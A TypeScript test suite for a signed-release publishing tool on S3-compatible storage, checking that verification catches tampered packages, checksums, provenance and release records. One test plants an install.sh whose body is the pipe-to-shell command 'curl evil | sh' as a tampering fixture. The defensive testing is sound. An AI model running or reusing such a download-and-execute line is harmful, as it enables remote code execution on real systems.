import { execFileSync } from 'node:child_process'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import * as path from 'node:path'
import {
  CreateBucketCommand,
  DeleteObjectCommand,
  GetObjectRetentionCommand,
  ListObjectsV2Command,
  ListObjectVersionsCommand,
  PutObjectCommand,
  type S3Client
} from '@aws-sdk/client-s3'
import { buildContextFromEnv, LOCAL_BUILDER_ID } from '../../src/core/release/provenance.js'
import { publishRelease, type PublishRequest } from '../../src/core/release/publish-release.js'
import { sha256OfFile } from '../../src/core/store/codec.js'
import {
  assertSeparateStores,
  keylessSigner,
  keySigner,
  resolvePackages,
  verifyPublishedRelease
} from '../../src/core/release/release-job.js'
import { releaseLayout } from '../../src/core/release/release-layout.js'
import { readIndex } from '../../src/core/release/release-index.js'
import { generateSigningKey } from '../../src/core/signing/keys.js'
import type { PutBody, PutOptions } from '../../src/core/store/object-store.js'
import { S3Store, type S3StoreConfig } from '../../src/core/store/s3-store.js'
import { runStep } from '../helpers/action-runner.js'
import { createTestBucket, s3TestClient, s3TestConfig, uniqueBucketName } from '../helpers/s3.js'
import { seededBytes, tempDir } from '../helpers/trees.js'

const context = buildContextFromEnv({
  GITHUB_ACTIONS: 'true',
  GITHUB_REPOSITORY: 'acme/app',
  GITHUB_SHA: 'a'.repeat(40),
  GITHUB_REF: 'refs/tags/v1.0.0',
  GITHUB_RUN_ID: '1'
})

async function packagesIn(
  dir: string,
  contents: Record<string, Buffer | string>
): Promise<Array<{ name: string; path: string }>> {
  await mkdir(dir, { recursive: true })
  for (const [name, content] of Object.entries(contents)) await writeFile(path.join(dir, name), content)
  return resolvePackages(['*'], dir)
}

/** Every object of a bucket as ListObjectsV2 reports it: key → ETag and LastModified. */
async function objectsOf(bucket: string, client: S3Client = s3TestClient()): Promise<Map<string, string>> {
  const objects = new Map<string, string>()
  let token: string | undefined
  do {
    const page = await client.send(new ListObjectsV2Command({ Bucket: bucket, ContinuationToken: token }))
    for (const object of page.Contents ?? [])
      objects.set(object.Key!, `${object.ETag} ${object.LastModified?.toISOString()}`)
    token = page.NextContinuationToken
  } while (token)
  return objects
}

describe('releases on RGW', () => {
  let config: S3StoreConfig
  let store: S3Store
  const { key } = generateSigningKey()
  const request = (packages: PublishRequest['packages'], version = 'v1.0.0'): PublishRequest => ({
    store,
    project: 'app',
    version,
    packages,
    context,
    plan: { schema: 'artifact-action/plan@1', stages: [] },
    signer: keySigner(key)
  })
  const verify = () =>
    verifyPublishedRelease({ store, project: 'app', version: 'v1.0.0', publicKeyPem: key.publicKeyPem })
  /** Overwrites an object behind the store's back, as an attacker with bucket access could. */
  const tamper = async (objectKey: string, change: (bytes: Buffer) => Buffer): Promise<() => Promise<void>> => {
    const original = (await store.get(objectKey))!
    const client = s3TestClient()
    const put = (body: Buffer) =>
      client.send(new PutObjectCommand({ Bucket: config.bucket, Key: `rel/${objectKey}`, Body: body }))
    await put(change(Buffer.from(original)))
    return async () => {
      await put(original)
      client.destroy()
    }
  }

  /** Verify refuses with `reason` while `objectKey` is changed, and passes again once it is put back. */
  const expectRefusedWhileTampered = async (
    objectKey: string,
    change: (bytes: Buffer) => Buffer,
    reason: string | RegExp
  ): Promise<void> => {
    const restore = await tamper(objectKey, change)
    try {
      await expect(verify()).rejects.toThrow(reason)
    } finally {
      await restore()
    }
    await expect(verify()).resolves.toBeDefined()
  }

  beforeAll(async () => {
    config = await createTestBucket('release', 'rel')
    store = new S3Store(config)
  })

  it('publishes, and verify passes; the bucket is a repository that sha256sum -c can check', async () => {
    const dir = await tempDir('pkgs')
    const packages = await packagesIn(dir, {
      'app-1.0.0.tar.gz': seededBytes(300_000, 1),
      'app-1.0.0.sbom.json': '{"sbom":true}\n'
    })
    const result = await publishRelease(request(packages))
    expect(result.status).toBe('published')
    expect(result.created.at(-1)).toBe(releaseLayout.record('app', 'v1.0.0'))
    const verified = await verify()
    expect(verified.checked).toHaveLength(4)
    expect(verified.statement.subject.map(subject => subject.name).sort()).toEqual([
      'app-1.0.0.sbom.json',
      'app-1.0.0.tar.gz'
    ])
    expect(verified.release).toMatchObject({
      project: 'app',
      version: 'v1.0.0',
      repository: 'https://github.com/acme/app',
      commit: 'a'.repeat(40)
    })
    expect(result.record).toMatchObject({ repository: 'https://github.com/acme/app', commit: 'a'.repeat(40) })

    // A consumer with only a download tool and sha256sum.
    const download = await tempDir('consumer')
    for (const name of ['app-1.0.0.tar.gz', 'app-1.0.0.sbom.json'])
      await writeFile(path.join(download, name), (await store.get(releaseLayout.package('app', 'v1.0.0', name)))!)
    await writeFile(path.join(download, 'SHA256SUMS'), (await store.get(releaseLayout.sums('app', 'v1.0.0')))!)
    expect(execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: download, encoding: 'utf8' })).toMatch(
      /app-1.0.0.tar.gz: OK/
    )
    expect((await readIndex(store, 'app'))?.versions.map(entry => entry.version)).toEqual(['v1.0.0'])
  })

  it.each([
    [
      'a byte of a package',
      () => releaseLayout.package('app', 'v1.0.0', 'app-1.0.0.tar.gz'),
      (bytes: Buffer) => ((bytes[1000] ^= 1), bytes),
      /^packages\/app-1.0.0.tar.gz: does not match its signed sha256$/
    ],
    [
      'a line of SHA256SUMS',
      () => releaseLayout.sums('app', 'v1.0.0'),
      (bytes: Buffer) => Buffer.from(bytes.toString().replace(/^./, c => (c === '0' ? '1' : '0'))),
      /^SHA256SUMS: the line for app-1.0.0.sbom.json does not match the signed provenance$/
    ],
    [
      'a byte of the provenance',
      () => releaseLayout.provenance('app', 'v1.0.0'),
      (bytes: Buffer) => Buffer.from(bytes.toString().replace('"payloadType"', '"payloadtype"')),
      /provenance.sigstore.json does not match/
    ]
  ])('fails verify after changing %s', async (_what, keyOf, change, reason) => {
    await expectRefusedWhileTampered(keyOf(), change, reason)
  })

  it('fails verify when provenance and release.json are both rewritten but the signature is not', async () => {
    const provenanceKey = releaseLayout.provenance('app', 'v1.0.0')
    const bundle = JSON.parse((await store.get(provenanceKey))!.toString())
    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString())
    statement.subject[0].digest.sha256 = 'f'.repeat(64)
    bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString('base64')
    const forged = Buffer.from(JSON.stringify(bundle))
    const recordKey = releaseLayout.record('app', 'v1.0.0')
    const record = JSON.parse((await store.get(recordKey))!.toString())
    record.provenance.sha256 = (await import('node:crypto')).createHash('sha256').update(forged).digest('hex')
    const restoreProvenance = await tamper(provenanceKey, () => forged)
    const restoreRecord = await tamper(recordKey, () => Buffer.from(JSON.stringify(record)))
    try {
      await expect(verify()).rejects.toThrow(/signature is invalid/)
    } finally {
      await restoreProvenance()
      await restoreRecord()
    }
  })

  it('succeeds on an identical re-run, and refuses different bytes leaving the first release intact', async () => {
    const dir = await tempDir('pkgs-again')
    const same = await packagesIn(dir, {
      'app-1.0.0.tar.gz': seededBytes(300_000, 1),
      'app-1.0.0.sbom.json': '{"sbom":true}\n'
    })
    expect((await publishRelease(request(same))).status).toBe('unchanged')

    const changedDir = await tempDir('pkgs-changed')
    const changed = await packagesIn(changedDir, {
      'app-1.0.0.tar.gz': seededBytes(300_000, 2),
      'app-1.0.0.sbom.json': '{"sbom":true}\n'
    })
    await expect(publishRelease(request(changed))).rejects.toThrow(
      /^version: app v1.0.0 is already released with different bytes \(app-1.0.0.tar.gz\); bump the version/
    )
    const verified = await verify()
    expect(verified.release.files.find(file => file.name === 'app-1.0.0.tar.gz')?.sha256).toBe(
      await sha256OfFile(same.find(item => item.name === 'app-1.0.0.tar.gz')!.path)
    )
  })

  it('writes nothing at all when the signer fails, and the same release finishes later', async () => {
    const dir = await tempDir('pkgs-partial')
    const packages = await packagesIn(dir, { 'app-2.0.0.tar.gz': 'two' })
    const before = await objectsOf(config.bucket)
    const failing = {
      ...request(packages, 'v2.0.0'),
      signer: { ...keySigner(key), sign: async () => Promise.reject(new Error('signing service down')) }
    }
    await expect(publishRelease(failing)).rejects.toThrow('signing service down')
    expect(await objectsOf(config.bucket)).toEqual(before)
    await expect(
      verifyPublishedRelease({ store, project: 'app', version: 'v2.0.0', publicKeyPem: key.publicKeyPem })
    ).rejects.toThrow(/no release.json/)
    expect((await publishRelease(request(packages, 'v2.0.0'))).status).toBe('published')
    expect((await readIndex(store, 'app'))?.versions.map(entry => entry.version)).toEqual(['v1.0.0', 'v2.0.0'])
  })

  it('leaves no object in a fresh release store when keyless signing fails', async () => {
    const fresh = await createTestBucket('release-keyless-fails', 'rel')
    const dir = await tempDir('pkgs-keyless')
    const packages = await packagesIn(dir, { 'app.tgz': 'keyless' })
    const keyless = keylessSigner(async () => undefined)
    await expect(publishRelease({ ...request(packages), store: new S3Store(fresh), signer: keyless })).rejects.toThrow(
      /^signing: keyless signing needs the job's OIDC token/
    )
    expect(await objectsOf(fresh.bucket)).toEqual(new Map())
  })

  it('changes no object on an identical re-run (ETag and LastModified of every key)', async () => {
    const dir = await tempDir('pkgs-rerun')
    const same = await packagesIn(dir, {
      'app-1.0.0.tar.gz': seededBytes(300_000, 1),
      'app-1.0.0.sbom.json': '{"sbom":true}\n'
    })
    const before = await objectsOf(config.bucket)
    expect(before.size).toBeGreaterThan(8)
    await new Promise(resolve => setTimeout(resolve, 1100)) // a rewrite would show in LastModified (1 s resolution)
    expect(await publishRelease(request(same))).toMatchObject({ status: 'unchanged', created: [] })
    expect(await objectsOf(config.bucket)).toEqual(before)
  })

  it('finishes a release an earlier run left unfinished, reusing its provenance; refuses other bytes before writing', async () => {
    const dir = await tempDir('pkgs-resume')
    const packages = await packagesIn(dir, { 'app-4.tgz': 'four', 'app-4.sbom': 'sbom' })
    // An earlier run stopped before its commit marker: the write of release.json fails.
    const put = (objectKey: string, body: PutBody, options?: PutOptions) =>
      objectKey.endsWith('/release.json')
        ? Promise.reject(new Error('network down'))
        : store.put(objectKey, body, options)
    const interrupted: S3Store = Object.create(store, { put: { value: put } })
    await expect(publishRelease({ ...request(packages, 'v4.0.0'), store: interrupted })).rejects.toThrow('network down')
    const provenance = await store.get(releaseLayout.provenance('app', 'v4.0.0'))
    expect(provenance).toBeDefined()

    const otherDir = await tempDir('pkgs-resume-other')
    const other = await packagesIn(otherDir, { 'app-4.tgz': 'FOUR', 'app-4.sbom': 'sbom' })
    const before = await objectsOf(config.bucket)
    await expect(publishRelease(request(other, 'v4.0.0'))).rejects.toThrow(
      /^version: app v4.0.0 was started earlier with a different SHA256SUMS and never finished; release under a new version \(nothing was overwritten\)$/
    )
    expect(await objectsOf(config.bucket)).toEqual(before)

    const signer = { ...keySigner(key), sign: async () => Promise.reject(new Error('must not sign again')) }
    expect((await publishRelease({ ...request(packages, 'v4.0.0'), signer })).status).toBe('published')
    expect(await store.get(releaseLayout.provenance('app', 'v4.0.0'))).toEqual(provenance)
    await expect(
      verifyPublishedRelease({ store, project: 'app', version: 'v4.0.0', publicKeyPem: key.publicKeyPem })
    ).resolves.toBeDefined()
  })

  it.each([
    [
      'repository',
      (record: Record<string, unknown>) => (record.repository = 'https://github.com/mallory/widget'),
      /^release.json: repository is "https:\/\/github.com\/mallory\/widget", but the signed provenance says "https:\/\/github.com\/acme\/app"; release.json was altered/
    ],
    [
      'commit',
      (record: Record<string, unknown>) => (record.commit = 'deadbeef'.repeat(5)),
      /^release.json: commit is "(deadbeef){5}", but the signed provenance says "a{40}"/
    ],
    [
      'files',
      (record: { files: Array<{ name: string; sha256: string; size: number }> }) =>
        record.files.push({ name: 'extra.sh', sha256: 'e'.repeat(64), size: 1 }),
      /^release.json: files has extra.sh with a digest the signed provenance does not name/
    ]
  ])('refuses a release.json whose %s was edited, naming the field', async (_field, edit, reason) => {
    const recordKey = releaseLayout.record('app', 'v1.0.0')
    const rewrite = (bytes: Buffer) => {
      const record = JSON.parse(bytes.toString())
      edit(record)
      return Buffer.from(JSON.stringify(record))
    }
    await expectRefusedWhileTampered(recordKey, rewrite, reason)
  })

  it('refuses a file in packages/ that the signed provenance does not name', async () => {
    const client = s3TestClient()
    const extraKey = `rel/${releaseLayout.package('app', 'v1.0.0', 'install.sh')}`
    await client.send(new PutObjectCommand({ Bucket: config.bucket, Key: extraKey, Body: 'curl evil | sh' }))
    try {
      await expect(verify()).rejects.toThrow(
        /^packages\/install.sh: not named by the signed provenance; someone added it, do not use this release$/
      )
    } finally {
      await client.send(new DeleteObjectCommand({ Bucket: config.bucket, Key: extraKey }))
      client.destroy()
    }
    await expect(verify()).resolves.toBeDefined()
  })

  it('refuses a signed release copied under another version', async () => {
    const client = s3TestClient()
    const copied = [
      'release.json',
      'SHA256SUMS',
      'provenance.sigstore.json',
      'packages/app-1.0.0.tar.gz',
      'packages/app-1.0.0.sbom.json'
    ]
    for (const name of copied) {
      let body = (await store.get(`${releaseLayout.version('app', 'v1.0.0')}${name}`))!
      if (name === 'release.json')
        body = Buffer.from(body.toString().replace('"version": "v1.0.0"', '"version": "v1.0.9"'))
      await client.send(
        new PutObjectCommand({
          Bucket: config.bucket,
          Key: `rel/${releaseLayout.version('app', 'v1.0.9')}${name}`,
          Body: body
        })
      )
    }
    client.destroy()
    await expect(
      verifyPublishedRelease({ store, project: 'app', version: 'v1.0.9', publicKeyPem: key.publicKeyPem })
    ).rejects.toThrow(/^provenance: signed for app v1.0.0, not app v1.0.9; it was copied from another release$/)
  })

  it('keeps every version in the index when releases race', async () => {
    const versions = ['v3.0.0', 'v3.0.1', 'v3.0.2', 'v3.0.3']
    const dir = await tempDir('race')
    const packages = await packagesIn(dir, { 'app.tgz': 'race' })
    await Promise.all(versions.map(version => publishRelease(request(packages, version))))
    expect((await readIndex(store, 'app'))?.versions.map(entry => entry.version).sort()).toEqual(
      ['v1.0.0', 'v2.0.0', 'v4.0.0', ...versions].sort()
    )
    const index = JSON.parse((await store.get(releaseLayout.index('app')))!.toString())
    expect(index.versions).toHaveLength(7)
  })

  it('refuses bad input with messages that name it', async () => {
    const dir = await tempDir('bad')
    const packages = await packagesIn(dir, { 'a.tgz': 'a' })
    await expect(publishRelease(request(packages, 'not a version'))).rejects.toThrow(
      /^version: "not a version" is not a valid version name/
    )
    await expect(resolvePackages(['*.nothing'], dir)).rejects.toThrow(/^packages: no file matches \*\.nothing/)
    expect(() =>
      assertSeparateStores({ kind: 's3', bucket: 'b', prefix: 'cache' }, { kind: 's3', bucket: 'b', prefix: 'cache/' })
    ).toThrow(/^release-store: .* overlaps the cache store/)
    expect(() =>
      assertSeparateStores(
        { kind: 's3', bucket: 'b', prefix: 'releases' },
        { kind: 's3', bucket: 'b', prefix: 'cache' }
      )
    ).not.toThrow()
    // Endpoints are compared as the services they reach, not as text.
    const at = (endpoint?: string, prefix = '') => ({ kind: 's3' as const, bucket: 'b', prefix, endpoint })
    expect(() => assertSeparateStores(at('http://127.0.0.1:9000'), at('HTTP://127.0.0.1:9000/', 'cache'))).toThrow(
      /^release-store: .* overlaps the cache store/
    )
    expect(() => assertSeparateStores(at(), at('https://s3.eu-west-1.amazonaws.com', 'cache'))).toThrow(/overlaps/)
    expect(() => assertSeparateStores(at('https://minio.example:443'), at('https://minio.example', 'c'))).toThrow(
      /overlaps/
    )
    expect(() => assertSeparateStores(at('http://127.0.0.1:9000'), at('http://127.0.0.1:9001', 'cache'))).not.toThrow()
    expect(() => assertSeparateStores(at('https://minio.example'), at(undefined, 'cache'))).not.toThrow()
  })

  it('puts release objects under Object Lock retention when the bucket has Object Lock', async () => {
    const bucket = uniqueBucketName('locked')
    const client = s3TestClient()
    await client.send(new CreateBucketCommand({ Bucket: bucket, ObjectLockEnabledForBucket: true }))
    const lockedStore = new S3Store({ ...s3TestConfig(), bucket })
    const dir = await tempDir('locked')
    const packages = await packagesIn(dir, { 'kept.tgz': 'kept forever' })
    const result = await publishRelease({ ...request(packages, 'v9.0.0'), store: lockedStore, retentionDays: 2 })
    expect(result.record.retention?.mode).toBe('GOVERNANCE')
    const retention = await client.send(
      new GetObjectRetentionCommand({ Bucket: bucket, Key: releaseLayout.package('app', 'v9.0.0', 'kept.tgz') })
    )
    expect(retention.Retention?.Mode).toBe('GOVERNANCE')
    expect(retention.Retention!.RetainUntilDate!.getTime()).toBeGreaterThan(Date.now() + 86_400_000)
    // Versioned: a re-run that wrote anything, even identical bytes, would add a version.
    const versions = async () =>
      (await client.send(new ListObjectVersionsCommand({ Bucket: bucket }))).Versions?.map(
        version => `${version.Key} ${version.VersionId}`
      ).sort()
    const before = await versions()
    expect(before?.length).toBeGreaterThan(5)
    expect(
      (await publishRelease({ ...request(packages, 'v9.0.0'), store: lockedStore, retentionDays: 2 })).status
    ).toBe('unchanged')
    expect(await versions()).toEqual(before)
    client.destroy()
  })

  it('runs the bundled release and verify actions as the runner does', async () => {
    const workspace = await tempDir('ws')
    await packagesIn(path.join(workspace, 'dist'), { 'tool-1.2.3.tgz': seededBytes(10_000, 5) })
    const connection = {
      endpoint: config.endpoint!,
      'aws-access-key-id': config.credentials!.accessKeyId,
      'aws-secret-access-key': config.credentials!.secretAccessKey
    }
    const { privateKeyPem, key: actionKey } = generateSigningKey()
    const env = {
      GITHUB_WORKSPACE: workspace,
      GITHUB_REF: 'refs/tags/v1.2.3',
      GITHUB_REPOSITORY: 'acme/tool',
      GITHUB_SHA: 'b'.repeat(40)
    }
    const released = await runStep(
      'release',
      {
        project: 'tool',
        packages: 'dist/*.tgz',
        'release-store': `s3://${config.bucket}/rel`,
        'signing-key': privateKeyPem,
        'github-release': 'false',
        ...connection
      },
      env
    )
    expect(released.exitCode).toBe(0)
    expect(released.outputs).toMatchObject({ version: 'v1.2.3', status: 'published' })
    expect(released.stdout).not.toContain('BEGIN PRIVATE KEY\n')

    const verified = await runStep(
      'verify',
      {
        project: 'tool',
        'release-store': `s3://${config.bucket}/rel`,
        'public-key': actionKey.publicKeyPem,
        ...connection
      },
      env
    )
    expect(verified.exitCode).toBe(0)
    expect(verified.outputs.verified).toBe('true')

    const noKey = await runStep(
      'release',
      {
        project: 'tool',
        packages: 'dist/*.tgz',
        'release-store': `s3://${config.bucket}/rel`,
        signing: 'key',
        ...connection
      },
      env
    )
    expect(noKey.exitCode).toBe(1)
    expect(noKey.stdout).toMatch(/::error::signing-key: empty; offline signing needs a PEM private key/)
    const sameAsCache = await runStep(
      'release',
      {
        project: 'tool',
        packages: 'dist/*.tgz',
        'release-store': `s3://${config.bucket}/ci`,
        store: `s3://${config.bucket}/ci`,
        'signing-key': privateKeyPem,
        ...connection
      },
      env
    )
    expect(sameAsCache.stdout).toMatch(/::error::release-store: .* overlaps the cache store/)
  })

  it('releases from a local checkout with the CLI: a local builder, the remote as https, the branch as ref', async () => {
    const checkout = await tempDir('checkout')
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
        cwd: checkout,
        encoding: 'utf8'
      }).trim()
    git('init', '-q', '-b', 'trunk')
    git('remote', 'add', 'origin', 'git@github.com:acme/app.git')
    await packagesIn(path.join(checkout, 'dist'), { 'app-local.tgz': 'local' })
    git('add', '.')
    git('commit', '-q', '-m', 'one')
    const head = git('rev-parse', 'HEAD')
    const { privateKeyPem, key: localKey } = generateSigningKey()
    await writeFile(path.join(checkout, 'release.key'), privateKeyPem)
    await writeFile(path.join(checkout, 'release.pub'), localKey.publicKeyPem)
    const releases = path.join(checkout, '..', `${path.basename(checkout)}-releases`)
    const env = Object.fromEntries(
      Object.entries(process.env).filter(
        ([name]) => !name.startsWith('GITHUB_') && name !== 'ARTIFACT_ACTION_SIGNING_KEY'
      )
    )
    const cli = (...args: string[]) =>
      execFileSync(process.execPath, [path.resolve('dist/cli/index.js'), ...args], {
        cwd: checkout,
        env,
        encoding: 'utf8'
      })
    const release = ['--project', 'app', '--version', 'v0.1.0', '--release-store', releases]
    cli('release', ...release, '--signing-key-file', 'release.key', 'dist/*.tgz')

    const bundle = JSON.parse(await readFile(path.join(releases, releaseLayout.provenance('app', 'v0.1.0')), 'utf8'))
    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString())
    expect(statement.predicate.runDetails).toEqual({ builder: { id: LOCAL_BUILDER_ID } })
    expect(statement.predicate.buildDefinition.resolvedDependencies).toEqual([
      { uri: 'git+https://github.com/acme/app@refs/heads/trunk', digest: { gitCommit: head } }
    ])
    expect(JSON.stringify(statement)).not.toMatch(/git@github|refs\/tags|actions\/runner/)
    const verified = cli('verify', ...release, '--public-key', 'release.pub')
    expect(verified).toContain(`verified app v0.1.0 (https://github.com/acme/app@${head.slice(0, 12)})`)
  })
})
